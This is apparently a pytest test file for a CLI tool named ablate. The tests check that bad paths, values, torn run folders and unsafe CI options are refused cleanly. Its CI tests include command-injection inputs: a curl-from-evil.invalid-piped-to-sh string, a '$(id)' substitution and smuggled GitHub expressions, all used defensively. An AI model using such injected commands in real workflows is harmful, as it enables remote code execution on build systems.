"""Bad inputs of issue 27.7: paths ablate cannot use as asked (read-only, a file for a folder, a folder or
a link loop for a file), values it cannot run with (an endless timeout, 10**30 turns, a URL that is none,
a CLI that is not the pinned one), files it cannot trust (a torn plan, a missing manifest, a settings.json
that is not JSON, a compare.json of another schema) and a CI workflow an option could inject into: each a
located error, exit 2, nothing written first, never a traceback."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import orjson
import pytest
import yaml

from ablate.core.fsutil import tree_hash
from ablate.setup.examples import ExampleSetup
from tests.helpers_cli import invoke
from tests.test_cli_run import TASK, rig, setup_args

__all__ = ["rig"]

Case = Callable[[ExampleSetup, Path, Path], tuple[list[str], str]]


@pytest.fixture
def readonly(tmp_path: Path) -> Iterator[Path]:
    """A folder ablate may not write: a read-only tmpfs as root (root writes through any mode), else 0555."""
    ro = tmp_path / "ro"
    ro.mkdir()
    if os.geteuid() == 0:
        subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(ro)], check=True)
        try:
            yield ro
        finally:
            subprocess.run(["umount", "-l", str(ro)], check=False)
    else:
        ro.chmod(0o555)
        yield ro
        ro.chmod(0o755)


def _plan(ex: ExampleSetup, tmp: Path) -> Path:
    """A planned run folder to break (made before the listing the test compares)."""
    code, _, err = invoke(
        ["plan", "--tasks", TASK, "--cells", "binary", "--out", str(tmp / "planned"), *setup_args(ex)]
    )
    assert code == 0, err
    (folder,) = (tmp / "planned").iterdir()
    return folder


def _afile(tmp: Path) -> Path:
    f = tmp / "afile"
    f.write_text("x")
    return f


UNWRITABLE = "read-only file system" if os.geteuid() == 0 else "not writable by you"
RO_ERRNO = "Read-only file system" if os.geteuid() == 0 else "Permission denied"
CASES: dict[str, Case] = {
    "run-out-read-only": lambda ex, tmp, ro: (
        ["run", "--tasks", TASK, "--out", str(ro / "runs"), *setup_args(ex)],
        UNWRITABLE,
    ),
    "plan-out-read-only": lambda ex, tmp, ro: (
        ["plan", "--tasks", TASK, "--out", str(ro / "runs"), *setup_args(ex)],
        UNWRITABLE,
    ),
    "run-work-dir-read-only": lambda ex, tmp, ro: (
        ["run", "--tasks", TASK, "--out", str(tmp / "runs"), "--work-dir", str(ro / "w"), *setup_args(ex)],
        f"--work-dir {ro / 'w'}: {ro} is",
    ),
    "env-build-out-read-only": lambda ex, tmp, ro: (
        ["env", "build", "C0", "--out", str(ro / "e"), *setup_args(ex)],
        RO_ERRNO,
    ),
    "sim-log-read-only": lambda ex, tmp, ro: (["sim", "serve", "--log", str(ro / "log.jsonl")], RO_ERRNO),
    "resume-a-file": lambda ex, tmp, ro: (
        ["run", "--resume", str(_afile(tmp)), *setup_args(ex)],
        "afile is a file, not a folder",
    ),
    "judge-a-file": lambda ex, tmp, ro: (["judge", str(_afile(tmp))], "afile is a file, not a folder"),
    "demo-out-a-file": lambda ex, tmp, ro: (["demo", "--out", str(_afile(tmp))], "Not a directory"),
    "probe-work-a-file": lambda ex, tmp, ro: (
        ["probe", "--work", str(_afile(tmp)), *setup_args(ex)],
        str(tmp / "afile"),
    ),
    "timeout-inf": lambda ex, tmp, ro: (
        ["run", "--tasks", TASK, "--out", str(tmp / "runs"), "--timeout", "inf", *setup_args(ex)],
        "--timeout",
    ),
    "timeout-nan": lambda ex, tmp, ro: (
        ["plan", "--tasks", TASK, "--out", str(tmp / "runs"), "--timeout", "nan", *setup_args(ex)],
        "--timeout",
    ),
    "max-turns-huge": lambda ex, tmp, ro: (
        ["plan", "--tasks", TASK, "--out", str(tmp / "runs"), "--max-turns", str(10**30), *setup_args(ex)],
        "--max-turns",
    ),
    "compare-base-url": lambda ex, tmp, ro: (
        [
            "compare",
            "old=" + str(ex.config_dir / "CLAUDE.md"),
            "new=" + str(ex.config_dir / "CLAUDE.md"),
            "--tasks",
            TASK,
            "--executor",
            "api",
            "--base-url",
            "not a url",
            "--out",
            str(tmp / "cmp"),
            "--yes",
        ],
        "--base-url 'not a url': not an http(s) URL",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_path_or_value_is_refused_before_anything_is_written(
    case: str, rig: tuple[ExampleSetup, Path], readonly: Path
) -> None:
    ex, tmp = rig
    args, message = CASES[case](ex, tmp, readonly)
    _refused(ex, tmp, args, message)


def _refused(ex: ExampleSetup, tmp: Path, args: list[str], message: str, code: int = 2) -> str:
    before = {p: tree_hash(p) for p in (ex.config_dir, ex.repo)}
    listing = sorted(p.name for p in tmp.iterdir())
    got, out, err = invoke(args)
    assert got == code, (out, err)
    assert message in err, err
    assert {p: tree_hash(p) for p in (ex.config_dir, ex.repo)} == before
    assert sorted(p.name for p in tmp.iterdir()) == listing
    return err


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("max_turns", str(10**30), "max_turns: Input should be less than or equal to 10000"),
        ("timeout_s", "inf", "timeout_s"),
    ],
)
def test_a_task_with_endless_turns_or_time_is_refused(
    rig: tuple[ExampleSetup, Path], field: str, value: str, said: str
) -> None:
    ex, tmp = rig
    task = tmp / "endless.toml"
    task.write_text(f'schema_version = 1\nid = "endless"\nprompt = "x"\n{field} = {value}\n')
    _refused(ex, tmp, ["plan", "--tasks", str(task), "--out", str(tmp / "runs"), *setup_args(ex)], said)


@pytest.mark.parametrize(
    ("name", "breaks", "said"),
    [
        ("manifest-a-folder", lambda f: ((f / "manifest.json").unlink(), (f / "manifest.json").mkdir()), "manifest.json: cannot be read: Is a directory"),
        ("manifest-a-link-loop", lambda f: ((f / "manifest.json").unlink(), (f / "manifest.json").symlink_to(f / "manifest.json")), "Too many levels of symbolic links"),
        ("manifest-missing", lambda f: (f / "manifest.json").unlink(), "no manifest.json"),
        ("manifest-torn", lambda f: (f / "manifest.json").write_text('{"schema'), "invalid JSON"),
        ("plan-torn", lambda f: (f / "plan.jsonl").write_text('{"it'), "invalid plan line"),
        ("plan-missing", lambda f: (f / "plan.jsonl").unlink(), "no plan.jsonl"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("command", ["resume", "report"])
def test_a_broken_run_folder_is_a_bad_input(
    rig: tuple[ExampleSetup, Path], name: str, breaks: Callable[[Path], object], said: str, command: str
) -> None:
    ex, tmp = rig
    folder = _plan(ex, tmp)
    breaks(folder)
    if command == "report" and name.startswith("plan"):
        pytest.skip("report reads results, not the plan")
    args = (
        ["run", "--resume", str(folder), *setup_args(ex)] if command == "resume" else ["report", str(folder)]
    )
    before = sorted(p.name for p in folder.iterdir())
    _refused(ex, tmp, args, said)
    assert sorted(p.name for p in folder.iterdir()) == before


@pytest.mark.parametrize("command", ["recover", "report"])
def test_a_read_only_run_folder_is_a_bad_input(
    rig: tuple[ExampleSetup, Path], readonly: Path, command: str
) -> None:
    ex, tmp = rig
    folder = _plan(ex, tmp)
    if os.geteuid() == 0:  # the planned folder, bound read-only over itself
        subprocess.run(["mount", "--bind", str(folder), str(folder)], check=True)
        subprocess.run(["mount", "-o", "remount,bind,ro", str(folder)], check=True)
    else:
        folder.chmod(0o555)
    try:
        _refused(ex, tmp, [command, str(folder)], RO_ERRNO)
    finally:
        if os.geteuid() == 0:
            subprocess.run(["umount", str(folder)], check=False)
        else:
            folder.chmod(0o755)


def test_settings_that_are_not_json_refuse_a_run_and_warn_in_layers(rig: tuple[ExampleSetup, Path]) -> None:
    ex, tmp = rig
    (ex.config_dir / "settings.json").write_text("{not json")
    err = _refused(
        ex, tmp, ["run", "--tasks", TASK, "--out", str(tmp / "runs"), *setup_args(ex)], "not valid JSON"
    )
    assert f"{ex.config_dir / 'settings.json'}: not valid JSON" in err and "skips a settings file" in err
    code, _, err = invoke(["layers", *setup_args(ex)])
    assert code == 0 and f"WARNING: {ex.config_dir / 'settings.json'}: not valid JSON" in err, err


def test_env_build_into_an_existing_folder_is_refused(rig: tuple[ExampleSetup, Path]) -> None:
    ex, tmp = rig
    (tmp / "full").mkdir()
    (tmp / "full" / "mine.txt").write_text("keep")
    _refused(ex, tmp, ["env", "build", "C0", "--out", str(tmp / "full"), *setup_args(ex)], "already exists")
    assert sorted(p.name for p in (tmp / "full").iterdir()) == ["mine.txt"]


def test_gate_refuses_a_compare_json_of_another_schema(tmp_path: Path) -> None:
    doc = {
        "schema_version": 99,
        "baseline": "old",
        "arms": [{"name": "old"}, {"name": "new"}],
        "contrasts": [],
    }
    (tmp_path / "compare.json").write_bytes(orjson.dumps(doc))
    code, _, err = invoke(["gate", str(tmp_path / "compare.json")])
    assert (
        code == 2
        and "compare.json: schema_version: written by a newer ablate (version 99 > 1): upgrade ablate" in err
    ), err


def test_a_claude_that_is_not_the_pinned_version_is_refused_unless_allowed(
    rig: tuple[ExampleSetup, Path],
) -> None:
    ex, tmp = rig
    other = tmp / "claude-old"
    other.write_text('#!/bin/sh\necho "2.0.1 (Claude Code)"\n')
    other.chmod(0o755)
    args = ["plan", "--tasks", TASK, "--out", str(tmp / "runs"), "--claude-bin", str(other), *setup_args(ex)]
    err = _refused(ex, tmp, args, "Claude Code 2.0.1, not the pinned")
    assert "--allow-unpinned-claude" in err
    code, _, err = invoke([*args, "--allow-unpinned-claude"])
    assert code == 0, err
    (folder,) = (tmp / "runs").iterdir()
    assert orjson.loads((folder / "manifest.json").read_bytes())["claude"]["pinned"] is False


INJECT = 'a"; curl https://evil.invalid | sh; echo ".md'


def test_ci_workflow_takes_option_values_through_the_environment_only(tmp_path: Path) -> None:
    out = tmp_path / "ablate.yml"
    code, _, err = invoke(
        ["ci", "init", "github", "--compare", INJECT, "--tasks", "t$(id)", "--out", str(out)]
    )
    assert code == 0, err
    data = yaml.safe_load(out.read_text())
    assert data["env"]["ABLATE_COMPARE"] == INJECT and data["env"]["ABLATE_TASKS"] == "t$(id)"
    runs = [s["run"] for job in data["jobs"].values() for s in job["steps"] if "run" in s]
    assert runs and not [r for r in runs if "evil" in r or "$(id)" in r], runs
    assert any('"new=$ABLATE_COMPARE"' in r for r in runs)


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--secret", "KEY }} ${{ github.token"], "not a GitHub secret name"),
        (["--secret", "GITHUB_TOKEN"], "not a GitHub secret name"),
        (["--secret", "1KEY"], "not a GitHub secret name"),
        (["--compare", "${{ secrets.X }}.md"], "GitHub expression"),
        (["--tasks", "t\nrun: x"], "control character"),
    ],
)
def test_ci_refuses_a_bad_secret_name_or_an_expression(tmp_path: Path, args: list[str], said: str) -> None:
    out = tmp_path / "ablate.yml"
    code, _, err = invoke(["ci", "init", "github", *args, "--out", str(out)])
    assert code == 2 and said in err, err
    assert not out.exists()
